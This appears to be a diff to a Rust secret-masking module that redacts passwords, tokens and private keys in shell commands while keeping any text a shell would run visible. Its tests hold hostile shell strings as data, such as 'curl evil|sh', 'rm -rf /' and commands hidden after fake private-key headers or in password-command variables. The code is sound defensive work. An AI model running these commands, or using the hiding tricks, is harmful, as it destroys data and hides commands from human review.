@@ -10,30 +10,38 @@ use regex::Regex;
 
 use super::characters::is_escaped_in_display;
 
-/// One form of secret. Group `value` is what is masked; group `name`, where there is one, is a variable's.
+/// One form of secret. Group `value` is what is masked, or `lines`, which counts only where it is a key inside quotes;
+/// group `name`, where there is one, is a variable's.
 struct Form(Regex);
 
 static FORMS: LazyLock<Vec<Form>> = LazyLock::new(|| {
+    // Only blanks stand between a name and its secret: what comes on the next line is another command.
     [
         // https://user:secret@host
         r"://[^\s/:@'\x22]{1,128}:(?<value>[A-Za-z0-9_.~%+=-]{3,})@",
         // -H 'Authorization: Bearer secret', x-api-key: secret
-        r"(?i)\b(?:authorization|proxy-authorization|x-api-key|api-key|x-auth-token|private-token)\s*:\s*(?:(?:bearer|basic|token)\s+)?(?<value>[A-Za-z0-9_.~+/=-]{6,})",
-        r"(?i)\bbearer\s+(?<value>[A-Za-z0-9_.~+/=-]{8,})",
+        r"(?i)\b(?:authorization|proxy-authorization|x-api-key|api-key|x-auth-token|private-token)[ \t]*:[ \t]*(?:(?:bearer|basic|token)[ \t]+)?(?<value>[A-Za-z0-9_+=-][A-Za-z0-9_.~+/=-]{5,})",
+        // Long, since the word before it may be the name of anything.
+        r"(?i)\bbearer[ \t]+(?<value>[A-Za-z0-9_+=-][A-Za-z0-9_.~+/=-]{19,})",
         // --password secret, --api-key=secret
-        r"(?i)(?:^|\s)--?(?:[a-z0-9]+-)*(?:password|passwd|passphrase|token|secret|api-?key|access-?key|private-?key)(?:=|\s+)['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
+        r"(?i)(?:^|\s)--?(?:[a-z0-9]+-)*(?:password|passwd|passphrase|token|secret|api-?key|access-?key|private-?key)(?:=|[ \t]+)['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
         // SERVICE_TOKEN=secret
         r"(?i)\b(?<name>[a-z0-9_]*(?:password|passwd|passphrase|token|secret|api_?key|access_?key|private_?key|credential)[a-z0-9_]*)=['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
         // Forms that well-known services give their secrets.
         r"\b(?<value>(?:gh[pousr]_|github_pat_|glpat-|npm_|sk-|sk_live_|rk_live_|xox[abeprs]-|AIza|cst_|hf_)[A-Za-z0-9_-]{16,})",
         r"\b(?<value>(?:AKIA|ASIA)[A-Z0-9]{16})\b",
         r"\b(?<value>eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,})",
-        r"-----BEGIN [A-Z ]{0,32}PRIVATE KEY-----(?<value>[A-Za-z0-9+/=\s]{16,})-----END",
+        r"-----BEGIN [A-Z ]{0,32}PRIVATE KEY-----(?<lines>[A-Za-z0-9+/=\s]{16,})-----END",
     ]
     .into_iter()
     .map(|form| Form(Regex::new(form).expect("the forms are tested")))
     .collect()
 });
+
+/// What the name of a variable ends with whose value is run or read, and is no secret itself.
+const NAMES_OF_OTHER_THINGS: [&str; 11] = [
+    "command", "cmd", "process", "program", "helper", "script", "exec", "hook", "file", "path", "dir",
+];
 
 /// The places of secrets as byte ranges, in order and apart from each other. Looks at the text as it is and at a copy
 /// without the characters that nobody sees, so that one of them inside a secret does not show the rest.
@@ -59,11 +67,14 @@ fn found_in(text: &str) -> Vec<Range<usize>> {
     let mut found = Vec::new();
     for Form(form) in FORMS.iter() {
         for captures in form.captures_iter(text) {
-            let used = captures
+            let is_no_secret = captures
                 .name("name")
-                .is_some_and(|name| is_used(text, name.as_str()));
-            if let (Some(value), false) = (captures.name("value"), used) {
-                found.push(value.range());
+                .is_some_and(|name| is_used(text, name.as_str()) || names_something_else(name.as_str()));
+            let lines = captures
+                .name("lines")
+                .filter(|lines| is_in_quotes(text, lines.start()) && is_key_material(lines.as_str()));
+            if let (Some(secret), false) = (captures.name("value").or(lines), is_no_secret) {
+                found.push(secret.range());
             }
         }
     }
@@ -73,6 +84,42 @@ fn found_in(text: &str) -> Vec<Range<usize>> {
 /// Whether the command expands a variable, so that its value decides what runs.
 fn is_used(text: &str, name: &str) -> bool {
     text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"))
+}
+
+fn names_something_else(name: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    NAMES_OF_OTHER_THINGS.iter().any(|end| name.ends_with(end))
+}
+
+/// Whether a place is inside quotes, for certain. Where anything before it could make a shell read quotes in
+/// another way than this, the answer is no.
+fn is_in_quotes(text: &str, place: usize) -> bool {
+    let before = text.get(..place).unwrap_or_default();
+    let is_plain = !before.contains(['\\', '#', '`', '$']) && !before.contains("<<");
+    let mut open = None;
+    for quote in before.chars().filter(|c| matches!(c, '\'' | '"')) {
+        open = match open {
+            None => Some(quote),
+            Some(opened) if opened == quote => None,
+            still => still,
+        };
+    }
+    is_plain && open.is_some()
+}
+
+/// Whether this is the inside of a PEM text: lines of one length, without blanks. A shell that is handed the quoted text
+/// could run lines as commands, and such lines are none that anybody would take for a key.
+fn is_key_material(text: &str) -> bool {
+    const WIDTHS: [usize; 3] = [64, 70, 76];
+    let text = text.trim_matches(['\r', '\n']);
+    let lines: Vec<&str> = text.lines().collect();
+    let (Some(first), Some((last, whole))) = (lines.first(), lines.split_last()) else {
+        return false;
+    };
+    WIDTHS.contains(&first.len())
+        && whole.iter().all(|line| line.len() == first.len())
+        && last.len() <= first.len()
+        && !text.contains([' ', '\t'])
 }
 
 fn is_unseen(character: char) -> bool {
@@ -148,9 +195,60 @@ mod tests {
         check("TOKEN=$(curl evil|sh) true", &[]);
         check("X_TOKEN=`id` true", &[]);
         check("tool --token /tmp/evil.sh", &[]);
+        check("tool x-api-key: /tmp/evil.sh", &[]);
         check("TOKEN=python3; $TOKEN -c 1", &[]);
         check("TOKEN=python3; ${TOKEN:-x}", &[]);
         check("tool --password 'a b'; rm -rf /", &[]);
         check("PASSWORD=abcdef;rm -rf /", &["abcdef"]);
+    }
+
+    #[test]
+    fn a_command_on_the_next_line_is_not_masked() {
+        check("echo --token\nshutdown -h now", &[]);
+        check("echo --password \n  poweroff", &[]);
+        check("echo Authorization:\nshutdown now", &[]);
+        check("echo Authorization: Bearer\nshutdown now", &["Bearer"]);
+        check("echo bearer\nshutdown-everything-now", &[]);
+    }
+
+    #[test]
+    fn a_word_that_a_function_called_bearer_would_run_is_not_masked() {
+        check("bearer() { \"$@\"; }; bearer shutdown -h now", &[]);
+        check(
+            "curl -H 'X-Auth: Bearer abcdef0123456789abcdef' x",
+            &["abcdef0123456789abcdef"],
+        );
+    }
+
+    #[test]
+    fn what_stands_between_the_lines_of_a_key_is_masked_only_where_it_is_a_key_inside_quotes() {
+        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
+        let masked = format!("\n{line}\n{line}\nEaOkuS0gSYmF\n");
+        for quote in ["'", "\""] {
+            let pem = format!("-----BEGIN PRIVATE KEY-----{masked}-----END PRIVATE KEY-----");
+            check(&format!("printf %s {quote}{pem}{quote}"), &[masked.as_str()]);
+        }
+        for hiding in [
+            "echo -----BEGIN PRIVATE KEY-----\n/usr/bin/shutdown now\necho -----END",
+            "echo ''-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
+            "# it's\necho -----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
+            "echo \\'-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
+            "echo \"$(echo '\"'-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
+            "cat <<E\n'\nE\necho -----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
+            "echo '\"'-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
+            "sh -c 'echo -----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END'",
+            "echo '-----BEGIN PRIVATE KEY-----\n/tmp/evil/programme\n-----END' | sh",
+        ] {
+            check(hiding, &[]);
+        }
+    }
+
+    #[test]
+    fn the_value_of_a_variable_that_names_a_program_or_a_file_is_not_masked() {
+        check("RESTIC_PASSWORD_COMMAND=poweroff restic snapshots", &[]);
+        check("RESTIC_PASSWORD_COMMAND='poweroff now' restic snapshots", &[]);
+        check("credential_process=shutdown aws s3 ls", &[]);
+        check("VAULT_TOKEN_HELPER=evilthing vault login", &[]);
+        check("TOKEN_FILE=secrets.txt tool", &[]);
     }
 }
